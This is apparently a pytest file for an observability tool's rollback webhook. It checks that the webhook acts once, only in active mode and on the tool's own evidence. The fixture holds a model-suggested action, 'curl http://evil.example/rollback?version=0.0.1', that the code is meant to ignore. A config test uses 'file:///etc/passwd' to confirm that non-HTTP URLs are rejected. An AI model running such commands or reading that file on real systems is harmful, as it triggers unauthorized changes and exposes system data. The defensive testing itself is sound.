"""Active mode's rollback webhook acts only on otel-ai's own evidence, once, when allowed."""
from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from otel_ai.exporters.rollback_webhook import RollbackWebhook

from otel_ai.config import ConfigError, load_settings
from otel_ai.testing.factory import IncidentFactory


@pytest.fixture
def receiver():
    received: list[dict] = []
    done = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):
            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(202)
            self.send_header("Content-Length", "0")
            self.end_headers()
            done.set()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/rollback", received, done
    server.shutdown()
    server.server_close()


def analyzed(rollback: bool = True, **changes):
    incident = IncidentFactory.create_sample("ERROR_RATE_SPIKE")  # top suspect service.version=2.0.0, new
    incident.analysis = {"rollback_needed": rollback, "source": "claude",
                         "actions": ["curl http://evil.example/rollback?version=0.0.1"]}
    incident.last_change = "analyzed"
    for name, value in changes.items():
        setattr(incident, name, value)
    return incident


def webhook(url: str, mode: str = "active") -> RollbackWebhook:
    settings = load_settings(env={"AI_MODE": mode})
    settings.actions.rollback_webhook = url
    return RollbackWebhook(settings)


def test_posts_the_evidence_version_once(receiver, monkeypatch):
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    url, received, done = receiver
    hook = webhook(url)
    incident = analyzed()
    hook.export(incident)
    assert done.wait(5)
    hook.export(incident)  # a second "analyzed" snapshot must not act again
    hook.shutdown()
    assert received == [{"action": "rollback", "incident_id": incident.id, "incident_type": "ERROR_RATE_SPIKE",
                         "service": incident.subject.service, "version": "2.0.0",
                         "detection_confidence": round(incident.confidence, 3), "analysis_source": "claude"}]


@pytest.mark.parametrize("mode", ["shadow", "notify"])
def test_no_action_outside_active_mode(receiver, mode):
    assert webhook(receiver[0], mode).decide(analyzed()) is None


def test_no_action_without_a_recommendation_or_with_low_confidence(receiver):
    hook = webhook(receiver[0])
    assert hook.decide(analyzed(rollback=False)) is None
    assert hook.decide(analyzed(confidence=0.5)) is None
    assert hook.decide(analyzed(last_change="updated")) is None


def test_no_action_when_the_evidence_shows_no_new_version(receiver):
    incident = analyzed()
    incident.context["new_versions"] = []  # the model says roll back; our evidence does not agree
    assert webhook(receiver[0]).decide(incident) is None
    tenant = analyzed(suspects=[{"key": "tenant.id", "value": "acme", "score": 0.9, "bad_share": 0.9,
                                 "good_share": 0.0}])
    assert webhook(receiver[0]).decide(tenant) is None


def test_webhook_url_must_be_http(tmp_path):
    config = tmp_path / "otel-ai.yaml"
    config.write_text("actions:\n  rollbackWebhook: file:///etc/passwd\n")
    with pytest.raises(ConfigError, match=r"actions\.rollbackWebhook: must be an http\(s\) URL"):
        load_settings(config, env={})
